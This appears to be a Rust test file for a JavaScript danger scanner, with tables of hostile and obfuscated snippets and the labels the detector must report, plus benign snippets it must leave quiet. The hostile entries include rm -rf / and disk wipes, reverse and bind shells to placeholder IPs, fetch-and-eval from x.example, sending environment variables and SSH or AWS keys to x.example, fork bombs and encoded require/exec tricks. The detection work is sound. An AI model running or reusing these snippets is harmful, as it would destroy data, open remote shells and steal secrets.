use super::*;

#[test]
fn what_dangerous_javascript_does_is_found() {
    assert_found(Language::JavaScript, DANGEROUS);
}

#[test]
fn what_is_hidden_in_javascript_is_read() {
    assert_found(Language::JavaScript, HIDDEN);
}

#[test]
fn ordinary_javascript_is_quiet() {
    assert_quiet(Language::JavaScript, ORDINARY);
}

const DANGEROUS: &[(&str, &str)] = &[
    (
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('rm -rf /')",
        "shell rm -rf /",
    ),
    ("Deno.run({ cmd: ['rm', '-rf', '/'] })", "program rm -rf /"),
    ("require('child_process').exec('rm -rf /')", "shell rm -rf /"),
    (
        "const cp = require('child_process'); cp.execSync('dd if=/dev/zero of=/dev/sda')",
        "shell dd if",
    ),
    (
        "const { exec } = require('child_process'); exec('curl http://x.example | sh', (e, o) => console.log(o))",
        "shell curl http://x.example | sh",
    ),
    (
        "const { execSync: run } = require('node:child_process'); run('shutdown -h now')",
        "shell shutdown -h now",
    ),
    ("import { exec } from 'child_process'; exec('rm -rf ~')", "shell rm -rf ~"),
    (
        "import * as cp from 'node:child_process'; cp.spawnSync('rm', ['-rf', '/'])",
        "program rm -rf /",
    ),
    (
        "import cp from 'child_process'; cp.execFileSync('mkfs.ext4', ['/dev/sda1'])",
        "program mkfs.ext4 /dev/sda1",
    ),
    ("require('child_process').spawn('rm -rf /', { shell: true })", "shell rm -rf /"),
    ("require('child_process').spawn('rm', ['-rf', '/'], { shell: true })", "shell rm -rf /"),
    (
        "(async () => { const cp = await import('child_process'); cp.execSync('reboot') })()",
        "shell reboot",
    ),
    ("import('child_process').then(cp => cp.exec('rm -rf /'))", "shell rm -rf /"),
    ("process.mainModule.require('child_process').execSync('id')", "shell id"),
    ("require('fs').rmSync('/', { recursive: true, force: true })", "Delete / recursive"),
    (
        "const fs = require('fs'); fs.rm('/etc', { recursive: true }, () => {})",
        "Delete /etc recursive",
    ),
    (
        "const fs = require('fs/promises'); await fs.rm('/home', { recursive: true })",
        "Delete /home recursive",
    ),
    (
        "import { rm } from 'node:fs/promises'; await rm('/usr', { recursive: true })",
        "Delete /usr recursive",
    ),
    (
        "const { promises: fs } = require('fs'); fs.rmdir('/var', { recursive: true })",
        "Delete /var recursive",
    ),
    ("require('fs').rmSync(require('os').homedir(), { recursive: true })", "Delete ~ recursive"),
    ("require('fs').rmSync(process.env.HOME, { recursive: true })", "Delete ~ recursive"),
    (
        "require('fs').rmSync(`${process.env.HOME}/Documents`, { recursive: true })",
        "Delete ~/Documents recursive",
    ),
    (
        "const path = require('path'); require('fs').rmSync(path.join('/', 'etc'), { recursive: true })",
        "Delete /etc recursive",
    ),
    ("require('rimraf').sync('/')", "Delete / recursive"),
    (
        "const rimraf = require('rimraf'); rimraf('/home/user', () => {})",
        "Delete /home/user recursive",
    ),
    ("require('fs-extra').removeSync('/opt')", "Delete /opt recursive"),
    ("require('shelljs').rm('-rf', '/')", "Delete / recursive"),
    ("const fs = require('fs'); fs.unlinkSync('/etc/passwd')", "Delete /etc/passwd"),
    (
        "const fs = require('fs'); fs.readdirSync('/home').forEach(f => fs.unlinkSync('/home/' + f))",
        "Delete /home/ recursive",
    ),
    (
        "const fs = require('fs'); for (const f of fs.readdirSync('/var/log')) fs.unlinkSync(`/var/log/${f}`)",
        "Delete /var/log/ recursive",
    ),
    ("require('fs').writeFileSync('/etc/passwd', '')", "Overwrite /etc/passwd"),
    ("require('fs').writeFileSync('/dev/sda', Buffer.alloc(512))", "Overwrite /dev/sda"),
    (
        "require('fs').appendFileSync('/root/.ssh/authorized_keys', key)",
        "Write /root/.ssh/authorized_keys",
    ),
    ("require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')", "Write ~/.bashrc"),
    ("require('fs').createWriteStream('/etc/cron.d/x').write('y')", "Overwrite /etc/cron.d/x"),
    ("require('fs').chmodSync('/etc/shadow', 0o777)", "Permission /etc/shadow public"),
    ("require('fs').chmodSync('/bin/bash', '4755')", "Permission /bin/bash setuid"),
    ("require('fs').truncateSync('/var/log/auth.log')", "Overwrite /var/log/auth.log"),
    ("require('fs').chownSync('/etc/sudoers', 1000, 1000)", "Owner /etc/sudoers"),
    ("process.kill(-1, 'SIGKILL')", "Kill -1 all"),
    ("process.kill(1)", "Kill 1"),
    ("process.setuid(0)", "Privilege root"),
    (
        "const cp = require('child_process'); while (true) cp.spawn('node', [__filename])",
        "Exhaust processes endless",
    ),
    (
        "const cp = require('child_process'); for (;;) { cp.fork(__filename) }",
        "Exhaust processes endless",
    ),
    ("require('child_process').fork(__filename)", "Exhaust processes endless"),
    (
        "setInterval(() => require('child_process').fork(__filename), 0)",
        "Exhaust processes endless",
    ),
    (
        "const cp = require('child_process'); (function f() { cp.spawn(process.argv[0], [__filename]); f() })()",
        "Exhaust processes endless",
    ),
    ("const cluster = require('cluster'); while (1) cluster.fork()", "Exhaust processes endless"),
    ("const a = []; while (true) a.push(new Array(1e6))", "Exhaust memory endless"),
    ("let s = 'x'; while (true) { s += s }", "Exhaust memory endless"),
    ("let s = 'x'; for (;;) s += 'xxxxxxxx'", "Exhaust memory endless"),
    ("Buffer.alloc(64 * 1024 ** 3)", "Exhaust memory"),
    ("while (true) {}", "Exhaust processor"),
    ("while (true) console.log('y')", "Exhaust output endless"),
    (
        "const fs = require('fs'); while (true) fs.appendFileSync('/tmp/x', 'y')",
        "Exhaust disk endless",
    ),
    (
        "var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});",
        "ReverseShell 10.0.0.1:4444",
    ),
    (
        "const net = require('net'), cp = require('child_process'); const s = net.connect(9001, '1.2.3.4', () => { const sh = cp.spawn('bash', ['-i']); s.pipe(sh.stdin); sh.stdout.pipe(s) })",
        "ReverseShell 1.2.3.4:9001",
    ),
    (
        "const net = require('net'); const s = net.connect({ host: 'x.example', port: 53 }); s.on('data', d => require('child_process').exec(d.toString(), (e, o) => s.write(o)))",
        "ReverseShell x.example:53",
    ),
    (
        "require('net').createServer(s => { const sh = require('child_process').spawn('/bin/sh'); s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(4444, '0.0.0.0')",
        "BindShell 0.0.0.0",
    ),
    ("fetch('http://x.example/p.js').then(r => r.text()).then(t => eval(t))", "NetworkCode"),
    ("fetch('http://x.example/p.js').then(r => r.text()).then(eval)", "NetworkCode"),
    ("eval(await (await fetch('http://x.example')).text())", "NetworkCode"),
    ("const r = await fetch(u); const t = await r.text(); new Function(t)()", "NetworkCode"),
    (
        "require('https').get('https://x.example/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
        "NetworkCode",
    ),
    (
        "const axios = require('axios'); axios.get('http://x.example').then(r => require('vm').runInThisContext(r.data))",
        "NetworkCode",
    ),
    (
        "const axios = require('axios'); (async () => { const { data } = await axios.get('http://x.example'); eval(data) })()",
        "NetworkCode",
    ),
    (
        "require('http').get('http://x.example/c', r => r.on('data', d => require('child_process').exec(d.toString())))",
        "NetworkCode",
    ),
    (
        "const fs = require('fs'); fetch('http://x.example/m').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/m.sh', t); require('child_process').execSync('sh /tmp/m.sh') })",
        "NetworkCode",
    ),
    (
        "fetch('http://x.example', { method: 'POST', body: JSON.stringify(process.env) })",
        "Send http://x.example with-secrets",
    ),
    (
        "require('axios').post('http://x.example', require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8'))",
        "Send http://x.example with-secrets",
    ),
    (
        "const r = require('https').request({ hostname: 'x.example', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end()",
        "Send … with-secrets",
    ),
    (
        "const k = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8'); fetch('http://x.example/?k=' + encodeURIComponent(k))",
        "Send http://x.example/?k=… with-secrets",
    ),
    (
        "const d = require('fs').readFileSync('/etc/shadow'); const s = require('net').connect(80, 'x.example'); s.write(d)",
        "Send … with-secrets",
    ),
    (
        "fetch(`http://x.example/?e=${JSON.stringify({ ...process.env })}`)",
        "Send http://x.example/?e=… with-secrets",
    ),
    ("const db = require('knex')(c); db.raw('DROP TABLE users')", "Remote DROP TABLE users all"),
    (
        "const { Client } = require('pg'); const c = new Client(); c.query('DELETE FROM users')",
        "Remote DELETE FROM users all",
    ),
    (
        "const crypto = require('crypto'), fs = require('fs'); for (const f of fs.readdirSync('/home/u')) { const c = crypto.createCipheriv('aes-256-cbc', k, iv); const p = '/home/u/' + f; fs.writeFileSync(p, c.update(fs.readFileSync(p))) }",
        "Overwrite /home/u recursive,hidden",
    ),
    ("process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", "Weaken"),
    (
        "const sh = require('child_process').spawn('bash'); sh.stdin.write('rm -rf /\\n')",
        "shell rm -rf /",
    ),
    ("require('child_process').spawn('/bin/sh', { stdio: [0, 1, 2] })", "ShellEscape"),
    (
        "setTimeout(\"require('child_process').exec('id')\", 100)",
        "code require('child_process').exec('id')",
    ),
];

const HIDDEN: &[(&str, &str)] = &[
    ("require('child_' + 'process').exec('id')", "shell id"),
    ("require(['child', 'process'].join('_'))['ex' + 'ec']('id')", "shell id"),
    ("global['req' + 'uire']('child_process').exec('id')", "shell id"),
    ("globalThis['eval']('1 + x')", "code 1 + x"),
    ("process['mainModule']['require']('child_process')['execSync']('id')", "shell id"),
    ("const r = require; const c = r('child_process'); const e = c.exec; e('id')", "shell id"),
    ("eval(atob('cmVxdWlyZSgnZnMnKQ=='))", "code require('fs')"),
    ("eval(Buffer.from('cmVxdWlyZSgnZnMnKQ==', 'base64').toString())", "code require('fs')"),
    ("new Function(Buffer.from('72657175697265', 'hex').toString('utf8'))()", "code require"),
    ("eval(String.fromCharCode(114, 101, 113))", "code req"),
    ("eval(String.fromCharCode(...[114, 101, 113]))", "code req"),
    ("eval(String.fromCharCode.apply(null, [114, 101, 113]))", "code req"),
    ("eval([114, 101, 113].map(c => String.fromCharCode(c)).join(''))", "code req"),
    ("eval('qer'.split('').reverse().join(''))", "code req"),
    ("eval('\\x72\\u0065\\u{71}')", "code req"),
    ("eval(unescape('%72%65%71'))", "code req"),
    ("eval(decodeURIComponent('%72%65%71'))", "code req"),
    ("require('child_process').exec(`rm ${'-rf'} ${'/'}`)", "shell rm -rf /"),
    (
        "const a = 'rm', b = '-rf'; require('child_process').exec(a + ' ' + b + ' /')",
        "shell rm -rf /",
    ),
    ("[].filter.constructor('x()')()", "code x()"),
    ("''['constructor']['constructor']('x()')()", "code x()"),
    ("Function('return this')()", "code return this"),
    ("(0, eval)('x()')", "code x()"),
    ("const o = { c: 'rm -rf /' }; require('child_process').exec(o.c)", "shell rm -rf /"),
    (
        "const _0x = ['child_process', 'execSync', 'id']; require(_0x[0])[_0x[1]](_0x[2])",
        "shell id",
    ),
    (
        "function d(s) { return Buffer.from(s, 'base64').toString() } require(d('Y2hpbGRfcHJvY2Vzcw=='))[d('ZXhlYw==')]('id')",
        "shell id",
    ),
    ("Reflect.get(require('child_process'), 'exec')('id')", "shell id"),
    ("require('child_process').exec.call(null, 'id')", "shell id"),
    (
        "eval(require('zlib').inflateSync(Buffer.from(x, 'base64')).toString())",
        "DecodedCode  hidden",
    ),
    (
        "let s = ''; for (const c of [114, 109]) s += String.fromCharCode(c); require('child_process').exec(s)",
        "shell rm",
    ),
    ("eval('r-e-q'.replace(/-/g, ''))", "code req"),
    ("eval('r--e-q'.replace(/-+/g, ''))", "ComputedCode"),
];

const ORDINARY: &[&str] = &[
    "console.log('hello')",
    "const p = JSON.parse(require('fs').readFileSync('package.json', 'utf8')); console.log(p.version)",
    "require('child_process').execSync('npm test', { stdio: 'inherit' })",
    "const { execSync } = require('child_process'); console.log(execSync('git status').toString())",
    "const { spawn } = require('child_process'); spawn('node', ['server.js'], { stdio: 'inherit' })",
    "const m = /a(b)/.exec('ab'); console.log(m[1])",
    "const re = new RegExp('x'); let m; while ((m = re.exec(s)) !== null) { console.log(m) }",
    "fetch('https://api.example.com').then(r => r.json()).then(d => console.log(d))",
    "const r = await fetch('https://api.example.com', { method: 'POST', headers: { Authorization: `Bearer ${process.env.TOKEN}` }, body: JSON.stringify({ a: 1 }) })",
    "const axios = require('axios'); axios.get('https://api.example.com').then(r => console.log(r.data))",
    "require('fs').writeFileSync('out.json', JSON.stringify({ a: 1 }))",
    "require('fs').mkdirSync('dist', { recursive: true })",
    "require('fs').rmSync('dist', { recursive: true, force: true })",
    "const path = require('path'); require('fs').rmSync(path.join(__dirname, 'dist'), { recursive: true })",
    "const path = require('path'); require('fs').writeFileSync(path.join(__dirname, '..', 'out.txt'), 'x')",
    "const http = require('http'); http.createServer((q, s) => s.end('ok')).listen(3000)",
    "const express = require('express'); const app = express(); app.get('/', (q, s) => s.send('x')); app.listen(3000)",
    "const port = process.env.PORT || 3000; console.log(port)",
    "console.log(process.argv.slice(2))",
    "console.log(Object.keys(process.env).length)",
    "process.exit(0)",
    "for (let i = 0; i < 10; i++) console.log(i)",
    "const a = []; for (let i = 0; i < 1e6; i++) a.push(i)",
    "while (true) { const l = next(); if (!l) break; console.log(l) }",
    "setTimeout(() => console.log('x'), 100)",
    "setInterval(() => console.log(Date.now()), 1000)",
    "const x = [1, 2, 3].map(n => n * 2).filter(n => n > 2).reduce((a, b) => a + b, 0)",
    "const s = 'abc'.split('').reverse().join('')",
    "console.log(Buffer.from('hello').toString('base64'))",
    "console.log(Buffer.from('aGVsbG8=', 'base64').toString())",
    "console.log(atob('aGVsbG8='))",
    "const fs = require('fs'); fs.readdirSync('.').filter(f => f.endsWith('.js')).forEach(f => console.log(f))",
    "const fs = require('fs'); for (const f of fs.readdirSync('src')) { const t = fs.readFileSync(`src/${f}`, 'utf8'); fs.writeFileSync(`src/${f}`, t.replace('a', 'b')) }",
    "const glob = require('glob'); glob.sync('src/**/*.ts').forEach(f => console.log(f))",
    "import React from 'react'; export default function App() { return <div>hi</div> }",
    "import { useState } from 'react'; const [a, b] = useState(0)",
    "export const add = (a, b) => a + b",
    "describe('x', () => { it('y', () => { expect(1).toBe(1) }) })",
    "const { Client } = require('pg'); const c = new Client(); c.query('SELECT * FROM users WHERE id = $1', [1])",
    "await db.query('DELETE FROM sessions WHERE expired = true')",
    "class A { constructor(x) { this.x = x } get() { return this.x } }",
    "const crypto = require('crypto'); console.log(crypto.createHash('sha256').update('x').digest('hex'))",
    "const os = require('os'); console.log(os.cpus().length, os.homedir())",
    "const rl = require('readline').createInterface({ input: process.stdin }); rl.on('line', l => console.log(l))",
    "process.on('SIGINT', () => process.exit())",
    "const cluster = require('cluster'); if (cluster.isMaster) { for (let i = 0; i < 4; i++) cluster.fork() }",
    "const { Worker } = require('worker_threads'); new Worker('./worker.js')",
    "module.exports = { entry: './src/index.js', output: { path: __dirname + '/dist' } }",
    "const yargs = require('yargs'); const argv = yargs.argv; console.log(argv.x)",
    "const util = require('util'); const exec = util.promisify(require('child_process').exec); exec('ls').then(r => console.log(r.stdout))",
    "document.querySelector('#a').addEventListener('click', () => alert('x'))",
    "$('#a').on('click', function () { $(this).hide() })",
    "const ws = new WebSocket('wss://example.com'); ws.onmessage = e => console.log(e.data)",
    "const net = require('net'); const s = net.connect(8080, 'localhost'); s.on('error', () => process.exit(1))",
    "fs.unlinkSync('tmp.txt')",
    "require('fs').unlinkSync('build/a.o')",
    "const t = require('os').tmpdir(); require('fs').writeFileSync(t + '/x', 'y')",
    "https.get('https://example.com', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => console.log(JSON.parse(d))) })",
    "try { JSON.parse(x) } catch (e) { console.error(e) } finally { done() }",
    "switch (x) { case 1: f(); break; default: g() }",
    "const sleep = ms => new Promise(r => setTimeout(r, ms)); await sleep(10)",
    "let i = 0; do { i++ } while (i < 10)",
    "const d = new Date(); console.log(d.toISOString())",
    "const { data } = await supabase.from('x').select('*')",
    "const { exec } = require('child_process'); exec('ls', (err, stdout) => { if (err) throw err; console.log(stdout) })",
];
